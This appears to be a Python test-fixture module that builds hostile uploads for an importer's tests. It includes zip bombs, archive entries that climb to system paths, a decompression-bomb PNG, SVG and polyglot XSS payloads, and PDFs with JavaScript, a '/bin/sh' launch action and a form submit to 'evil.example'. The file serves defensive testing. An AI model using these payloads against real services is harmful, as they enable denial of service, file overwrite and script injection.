"""Files that mean harm, by what they try: archives for kits, pictures and drawings for logos, PDFs for templates."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image

from tests.factories import logos
from tests.factories.campaign_kits import kit_files


def zipped(entries: list[tuple[str, bytes]], **attributes: int) -> bytes:
    """The small kit with these entries behind it, each with the attributes of a ZipInfo."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        for path, data in kit_files().items():
            packed.writestr(path, data)
        for path, data in entries:
            info = zipfile.ZipInfo(path)
            info.compress_type = zipfile.ZIP_DEFLATED
            for key, value in attributes.items():
                setattr(info, key, value)
            packed.writestr(info, data)
    return buffer.getvalue()


def _nested() -> bytes:
    inner = zipped([("a.bin", b"\0" * 5_000_000)])
    for _ in range(3):
        inner = zipped([("inner.zip", inner)])
    return inner


ZIPS: dict[str, Callable[[], bytes]] = {
    "ratio": lambda: zipped([("images/zeros.bin", b"\0" * 60_000_000)]),
    "entries": lambda: zipped([(f"images/{number}.txt", b"") for number in range(2_100)]),
    "climbing": lambda: zipped([("../../etc/cron.d/x", b"x")]),
    "absolute": lambda: zipped([("/etc/passwd", b"x")]),
    "backslash": lambda: zipped([("..\\..\\x.txt", b"x")]),
    "drive": lambda: zipped([("C:/x.txt", b"x")]),
    "link": lambda: zipped([("images/link.png", b"/etc/passwd")], external_attr=(stat.S_IFLNK | 0o777) << 16),
    "device": lambda: zipped([("images/null", b"")], external_attr=(stat.S_IFCHR | 0o666) << 16),
    "case": lambda: zipped([("README.MD", b"x")]),
    "fold": lambda: zipped([("posts/straße.txt", b"x"), ("posts/STRASSE.txt", b"y")]),
    "composed": lambda: zipped([("posts/\u00e9.txt", b"x"), ("posts/e\u0301.txt", b"y")]),
    "control": lambda: zipped([("posts/a\nb.txt", b"x")]),
    "long": lambda: zipped([("a/" * 40 + "x.txt", b"x")]),
    "cut": lambda: zipped([])[:-40],
    "no-kit": lambda: b"PK\x03\x04" + b"\xff" * 400,
    "manifest": lambda: _bent(kit=b"a = " + b"[" * 5_000),
    "manifest-bytes": lambda: _bent(kit=b"\xff\xfe\x00"),
    "manifest-number": lambda: _bent(kit=kit_files()["kit.toml"].replace(b"schema = 1", b"schema = " + b"9" * 5000)),
}
# Taken as a draft; its check finds what is wrong.
DRAFTS: dict[str, Callable[[], bytes]] = {
    "layout-depth": lambda: _bent(banner_layout=b"[" * 100_000),
    "layout-number": lambda: _bent(
        banner_layout=kit_files()["images/banner.layout.json"].replace(b"200, 40", b"1e999, NaN")
    ),
    "catalog": lambda: _bent(po=b'msgid "' + b"\\" * 99_999),
}
KEPT: dict[str, Callable[[], bytes]] = {"nested": _nested}


def _bent(kit: bytes | None = None, banner_layout: bytes | None = None, po: bytes | None = None) -> bytes:
    files = kit_files()
    changed = {"kit.toml": kit, "images/banner.layout.json": banner_layout, "locales/de/LC_MESSAGES/kit.po": po}
    files |= {path: data for path, data in changed.items() if data is not None}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        for path, data in files.items():
            packed.writestr(path, data)
    return buffer.getvalue()


def real_bomb_png(side: int = 50_000) -> bytes:
    """50,000 × 50,000 pixels that are really there: one bit each, 313 MB unpacked, half a MB packed."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + side // 8)
    body = b"".join(packer.compress(row * 100) for _ in range(side // 100)) + packer.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _odd_profile() -> bytes:
    picture = logos.drawing().convert("RGB").convert("CMYK")
    return logos.encode(picture, "JPEG", icc_profile=b"\0\0\x10\0lcms" + b"\xff" * 2000)


# Refused, with a reason on the page.
BAD_LOGOS: dict[str, Callable[[], bytes]] = {
    "png-header": logos.bomb_png,
    "png-real": real_bomb_png,
    "png-cut": logos.truncated_png,
    "jpeg-cut": lambda: logos.white_jpeg()[:600],
    "entities": logos.entities_svg,
    "external-entity": logos.external_entity_svg,
    "deep": logos.deep_svg,
    "laughing-use": logos.laughing_use_svg,
    "svg-text": logos.text_svg,
    "svg-huge": lambda: logos.svg(logos.SIGN, "0 0 1e30 1e30"),
    "svg-nan": lambda: logos.svg(logos.SIGN, "0 0 nan inf"),
    "svg-bomb-gz": lambda: zlib.compress(b"<svg>" + b" " * 90_000_000, 9, 31),
    "pdf-script": lambda: logos.pdf_logo(script=True),
    "pdf-pages": lambda: logos.pdf_logo(pages=2),
    "empty": lambda: b"",
    "html": lambda: b"<!doctype html><script>alert(1)</script>",
    "polyglot-html": lambda: b"GIF89a/*<svg onload=alert(1)>*/=1;",
    "zip": lambda: zipped([]),
}
# Taken in, and nothing of the harm is left.
MENDED_LOGOS: dict[str, Callable[[], bytes]] = {
    "svg-script": logos.hostile_svg,
    "cmyk": logos.cmyk_jpeg,
    "odd-profile": _odd_profile,
    "profile-cut": logos.corrupt_profile_png,
    "polyglot": lambda: logos.white_jpeg() + b"<script>alert(1)</script>PK\x03\x04",
    "svg-size": lambda: logos.svg(logos.SIGN, extra='width="1000000" height="500000"'),
}


def _pdf(change: Callable[[pikepdf.Pdf], None], **saving: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(300, 300))
        change(pdf)
        pdf.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def _open_action(**action: object) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(**action)  # type: ignore[arg-type]

    return _pdf(change)


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = b"MZ"


PDFS: dict[str, Callable[[], bytes]] = {
    "javascript": lambda: _open_action(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
    "launch": lambda: _open_action(S=pikepdf.Name.Launch, F="/bin/sh"),
    "form": lambda: _open_action(S=pikepdf.Name.SubmitForm, F="https://evil.example"),
    "embedded": lambda: _pdf(_attached),
    "password": lambda: _pdf(lambda _: None, encryption=pikepdf.Encryption(owner="o", user="u")),
    "cut": lambda: _pdf(lambda _: None)[:300],
    "picture": lambda: logos.encode(Image.new("RGB", (9, 9)), "PNG"),
}
